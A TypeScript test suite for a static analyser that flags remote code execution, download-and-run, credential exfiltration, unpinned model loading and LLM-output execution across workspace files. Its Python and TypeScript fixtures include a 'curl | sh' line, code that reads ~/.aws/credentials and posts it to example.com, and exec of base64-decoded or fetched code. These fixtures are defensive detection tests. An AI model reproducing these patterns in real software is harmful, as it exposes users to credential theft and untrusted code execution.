/** What comes from other files of the workspace: constants, sources, and functions that load or run what they are given. */

import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { textOf } from '../../server/core/rules/rule.ts';
import { annotate, strip } from '../../server/core/service/marks.ts';
import { languageOfFile } from '../../server/core/syntax/language.ts';
import { fileUri } from '../../server/host/addresses.ts';
import { only, service } from '../kit/service.ts';

const RULES = ['trust-remote-code', 'unpinned-revision', 'remote-exec', 'agent-code-exec', 'code-injection'].concat(
  'exposed-secret',
  'obfuscated-exec',
  'download-and-run',
  'unsafe-deserialization',
  'runtime-install',
  'generated-import',
  'credential-exfiltration',
);

describe('other files of the workspace', () => {
  let folder: string;

  beforeEach(() => {
    folder = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'loadguard-workspace-')));
    fs.mkdirSync(path.join(folder, '.git'));
  });

  afterEach(() => fs.rmSync(folder, { recursive: true }));

  /** Writes files; those with marks, or named last, must have the findings that the marks say. */
  function files(given: Readonly<Record<string, string>>): void {
    for (const [name, marked] of Object.entries(given)) {
      fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
      fs.writeFileSync(path.join(folder, name), strip(marked));
    }
    const last = Object.keys(given).at(-1)!;
    assert.equal(said(last), given[last]);
  }

  /** A file's text with what is found in it. */
  function said(name: string): string {
    const text = fs.readFileSync(path.join(folder, name), 'utf8');
    const source = { uri: fileUri(path.join(folder, name)), language: languageOfFile(name)!, text };
    const report = service.check(source, only(RULES));
    assert.deepEqual(service.check(source, only(RULES)), report, 'a second run says the same');
    const marks = report.findings
      .filter(({ severity }) => severity === 'error' || severity === 'warning')
      .map(({ rule, range: { start, end } }) => {
        return { line: start.line, start: start.character, end: end.character, sign: '^', text: rule } as const;
      });
    return annotate(text, marks);
  }

  const text = (strings: TemplateStringsArray) => textOf(strings);

  it('keep their secrets to themselves, and their decoded texts are followed', () => {
    files({
      'app/config.py': text`
        MODEL = "org/model"
        PASSWORD = "k7#mQ2!vXz"
        URL = "postgresql://report:hT7x91kQ@db.internal:5432/sales"
        CODE = "cHJpbnQoMSk="
      `,
      'app/main.py': text`
        import base64
        from transformers import AutoModel
        from .config import CODE, MODEL
        model = AutoModel.from_pretrained(MODEL)
                                          ^^^^^ unpinned-revision
        exec(base64.b64decode(CODE))
             ^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
      `,
    });
  });

  it('give constants, by member, by module and by star', () => {
    files({
      'app/config.py': text`
        MODEL = "org/model"
        OPTIONS = {"trust_remote_code": True}

        class Settings:
            name = "org/other"
      `,
      'app/main.py': text`
        from transformers import AutoModel
        from .config import MODEL, Settings
        from . import config
        from .config import *
        a = AutoModel.from_pretrained(MODEL)
                                      ^^^^^ unpinned-revision
        b = AutoModel.from_pretrained(config.MODEL, **config.OPTIONS)
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
                                      ^^^^^^^^^^^^ unpinned-revision
        c = AutoModel.from_pretrained(Settings.name)
                                      ^^^^^^^^^^^^^ unpinned-revision
        d = AutoModel.from_pretrained("org/pinned", **OPTIONS, revision="0123456789abcdef0123456789abcdef01234567")
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
      `,
    });
  });

  it('keep a constant that pins, and one that is a local path', () => {
    files({
      'config.py': text`
        REVISION = "0123456789abcdef0123456789abcdef01234567"
        FOLDER = "./checkpoints/last"
      `,
      'main.py': text`
        import config
        from transformers import AutoModel
        a = AutoModel.from_pretrained("org/model", revision=config.REVISION)
        b = AutoModel.from_pretrained(config.FOLDER)
      `,
    });
  });

  it('bring text in by functions, through packages that give them on', () => {
    files({
      'lib/__init__.py': text`
        from .web import fetch as get_page
      `,
      'lib/web.py': text`
        import requests
        from .base import address

        def fetch(name):
            return requests.get(address(name)).text
      `,
      'lib/base.py': text`
        def address(name):
            return "https://example.com/" + name
      `,
      'scripts/run.py': text`
        from lib import get_page
        import lib.web
        exec(get_page("a.py"))
             ^^^^^^^^^^^^^^^^ remote-exec
        exec(lib.web.fetch("b.py"))
             ^^^^^^^^^^^^^^^^^^^^^ remote-exec
        exec("print(1)")
      `,
    });
  });

  it('run what they are given, at the call that gives it', () => {
    files({
      'tools.py': text`
        def run(code, scope=None):
            exec(compile(code, "<tool>", "exec"), scope)

        def run_twice(code):
            run(code)
            run(code)

        class Runner:
            def execute_code(self, code):
                return eval(code)
      `,
      'agent.py': text`
        from openai import OpenAI
        from tools import run as start, run_twice, Runner
        answer = OpenAI().responses.create(model="gpt-5", input="write it").output_text
        start(answer)
              ^^^^^^ agent-code-exec
        run_twice(answer)
                  ^^^^^^ agent-code-exec
        Runner().execute_code(answer)
                              ^^^^^^ agent-code-exec
        start("print(1)")
        start(code=input())
                   ^^^^^^^ code-injection
      `,
    });
  });

  it('start what they are given', () => {
    files({
      'shell.py': text`
        import subprocess

        def run_shell(command):
            return subprocess.run(command, shell=True, capture_output=True)
      `,
      'agent.py': text`
        from openai import OpenAI
        from shell import run_shell
        answer = OpenAI().responses.create(model="gpt-5", input="which command?")
        run_shell(answer.output_text)
                  ^^^^^^^^^^^^^^^^^^ agent-code-exec
        run_shell("ls -l")
      `,
    });
    files({
      'shell.ts': text`
        import { execSync } from 'node:child_process';
        export function runShell(command: string) { return execSync(command); }
      `,
      'agent.ts': text`
        import OpenAI from 'openai';
        import { runShell } from './shell';
        const answer = await new OpenAI().responses.create({ model: 'gpt-5', input: goal });
        runShell(answer.output_text);
                 ^^^^^^^^^^^^^^^^^^ agent-code-exec
      `,
    });
  });

  it('install and download what they are given as a text', () => {
    files({
      'steps.py': text`
        import subprocess
        import sys

        def pip_install(*packages):
            subprocess.check_call([sys.executable, "-m", "pip", "install", *packages])

        def shell(line):
            subprocess.run(line, shell=True)
      `,
      'main.py': text`
        from steps import pip_install, shell
        pip_install("numpy")
        ^^^^^^^^^^^^^^^^^^^^ runtime-install
        pip_install("numpy==2.1.0")
        shell("curl -fsSL https://example.com/install.sh | sh")
              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
      `,
    });
  });

  it('write code that is run here, and read secrets that are sent from here', () => {
    files({
      'generate.py': text`
        import json

        def generate():
            fields = json.load(open("fields.json"))
            with open("app/fields.py", "w") as file:
                file.write("".join(f"{name} = 1" for name in fields))
            return "app/fields.py"
      `,
      'run.py': text`
        import runpy
        from generate import generate
        runpy.run_path(generate())
                       ^^^^^^^^^^ generated-import
      `,
    });
    files({
      'collect.py': text`
        from pathlib import Path

        def gather():
            return (Path.home() / ".aws" / "credentials").read_text()
      `,
      'report.py': text`
        import requests
        from collect import gather
        requests.post("https://example.com", data=gather())
                                             ^^^^^^^^^^^^^ credential-exfiltration
      `,
    });
  });

  it('load what they are given, each call for itself', () => {
    files({
      'loading.py': text`
        from transformers import AutoModel

        def load_model(name, revision=None, trust=False):
            return AutoModel.from_pretrained(name, revision=revision, trust_remote_code=trust)
      `,
      'main.py': text`
        from loading import load_model
        a = load_model("org/model", trust=True)
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ unpinned-revision
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
        b = load_model("org/model", "0123456789abcdef0123456789abcdef01234567")
        c = load_model("./checkpoint")
      `,
    });
  });

  it('load what their objects are made with, and what stands in the options that they take', () => {
    files({
      'models.py': text`
        from transformers import AutoModel, AutoProcessor

        class Vision:
            def __init__(self, repository, revision=None, **options):
                self.processor = AutoProcessor.from_pretrained(repository, revision=revision, **options)
                self.model = AutoModel.from_pretrained(repository, revision=revision, **options)
      `,
      'main.py': text`
        from models import Vision
        a = Vision("org/model", trust_remote_code=True)
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ unpinned-revision
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
        b = Vision("org/model", "0123456789abcdef0123456789abcdef01234567")
      `,
    });
    files({
      'load.ts': text`
        import { pipeline } from '@huggingface/transformers';
        export async function load(task: string, { model, revision = 'main' }: Options) {
          return pipeline(task, model, { revision });
        }
      `,
      'main.ts': text`
        import { load } from './load';
        await load('translation', { model: 'org/a' });
              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ unpinned-revision
        await load('translation', { model: 'org/b', revision: '0123456789abcdef0123456789abcdef01234567' });
      `,
    });
  });

  it('vouch for what they are given', () => {
    files({
      'naming.ts': text`
        export function assertName(name: string) {
          if (!/^[A-Za-z_]\w*$/.test(name)) throw new Error(name);
        }
      `,
      'main.ts': text`
        import { assertName } from './naming';
        for (const it of process.argv.slice(2)) {
          assertName(it);
          eval(it + '()');
        }
      `,
    });
    files({
      'main.ts': text`
        import { greet } from './naming';
        for (const it of process.argv.slice(2)) {
          greet(it);
          eval(it + '()');
               ^^^^^^^^^ code-injection
        }
      `,
    });
  });

  it('fetch what is run here, and read the file that is named here', () => {
    files({
      'fetching.py': text`
        import os
        import requests

        def fetch(url, path):
            answer = requests.get(url)
            with open(path, "wb") as file:
                file.write(answer.content)

        def fetch_to_temporary(url):
            path = os.path.join("/tmp", os.path.basename(url))
            with open(path, "wb") as file:
                for chunk in requests.get(url, stream=True).iter_content(8192):
                    file.write(chunk)
            return path
      `,
      'reading.py': text`
        import pickle

        def read_index(path):
            with open(path, "rb") as file:
                return pickle.load(file)
      `,
      'main.py': text`
        import runpy
        import subprocess
        import sys
        from huggingface_hub import hf_hub_download
        from fetching import fetch, fetch_to_temporary
        from reading import read_index
        fetch("https://example.com/tool.py", "tool.py")
        fetch("https://example.com/data.csv", "data.csv")
        subprocess.run([sys.executable, "tool.py"])
                                        ^^^^^^^^^ download-and-run
        subprocess.run([sys.executable, "own.py"])
        tool = fetch_to_temporary("https://example.com/other.py")
        runpy.run_path(tool)
                       ^^^^ download-and-run
        path = hf_hub_download("org/index", "index.pkl")
                               ^^^^^^^^^^^ unpinned-revision
        index = read_index(path)
                           ^^^^ unsafe-deserialization
        own = read_index("index.pkl")
      `,
    });
  });

  it('are found by scripts: named, default, star and CommonJS exports, folders and compiled names', () => {
    files({
      'src/lib/remote.ts': text`
        export async function fetchText(url: string) { return (await fetch(url)).text(); }
        export default async (url: string) => (await fetch(url)).text();
        const inner = 'org/model';
        export { inner as MODEL };
      `,
      'src/lib/run.ts': text`
        export const run = (code: string) => new Function(code)();
      `,
      'src/lib/old.js': text`
        exports.evaluate = (code) => eval(code);
        module.exports.NAME = 'x';
      `,
      'src/lib/index.ts': text`
        export * from './remote.js';
        export { run as start } from './run';
      `,
      'src/main.ts': text`
        import fetchIt from './lib/remote';
        import { fetchText, start, MODEL } from './lib';
        import * as all from './lib/index.js';
        import { pipeline } from '@huggingface/transformers';
        const old = require('./lib/old');
        const source = await fetchText('https://example.com/a.js');
        eval(source);
             ^^^^^^ remote-exec
        start(source);
              ^^^^^^ remote-exec
        all.start(await fetchIt('https://example.com/b.js'));
                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
        old.evaluate(source);
                     ^^^^^^ remote-exec
        await pipeline('text-generation', MODEL);
                                          ^^^^^ unpinned-revision
        start('1 + 1');
      `,
    });
  });

  it('are found by the path aliases of a project', () => {
    files({
      'tsconfig.json':
        '{ "compilerOptions": { "baseUrl": ".", "paths": { "@lib/*": ["src/lib/*"], }, } } // with comments\n',
      'src/lib/web.ts': text`
        export const download = async (url: string) => (await fetch(url)).text();
      `,
      'src/app/main.ts': text`
        import { download } from '@lib/web';
        eval(await download('https://example.com/a.js'));
             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
      `,
    });
  });

  it('may import each other in a circle', () => {
    files({
      'a.py': text`
        from b import second
        def first(n):
            return second(n)
      `,
      'b.py': text`
        from a import first
        import requests
        def second(n):
            return first(n - 1) if n else requests.get("https://example.com").text
      `,
      'main.py': text`
        from a import first
        exec(first(3))
             ^^^^^^^^ remote-exec
      `,
    });
  });

  it('do not take the place of libraries, nor of what they do not have', () => {
    files({
      'transformers/__init__.py': text`
        VERSION = 5
      `,
      'helpers.py': text`
        def clean(code):
            return int(code)
      `,
      'main.py': text`
        from transformers import AutoModel
        from helpers import clean, missing
        a = AutoModel.from_pretrained("org/model")
                                      ^^^^^^^^^^^ unpinned-revision
        exec(clean(input()))
        missing(input())
      `,
    });
  });

  it('are not looked for inside of files', () => {
    files({
      'package.json': '{}\n',
      'data.py': 'x = 1\n',
      'main.ts': text`
        import { version } from './package.json';
        import { x } from './data.py';
        const answer = await fetch('https://example.com/a.js');
        eval(version + x + (await answer.text()));
             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
      `,
    });
  });

  it('outside the project are not read', () => {
    fs.mkdirSync(path.join(folder, 'project/.git'), { recursive: true });
    files({
      'secret.py': text`
        CODE = input()
      `,
      'project/main.py': text`
        from ..secret import CODE
        exec(CODE)
      `,
    });
  });

  it('may be broken, empty or huge', () => {
    files({
      'broken.py': 'def run(code:\n    exec(code\nNAME = "org/model"\n',
      'empty.py': '',
      'huge.py': `${'x = 1\n'.repeat(100_000)}NAME = "org/model"\n`,
      'main.py': text`
        from broken import run
        from empty import nothing
        from huge import NAME
        import requests
        exec(requests.get(NAME).text)
             ^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
      `,
    });
  });
});
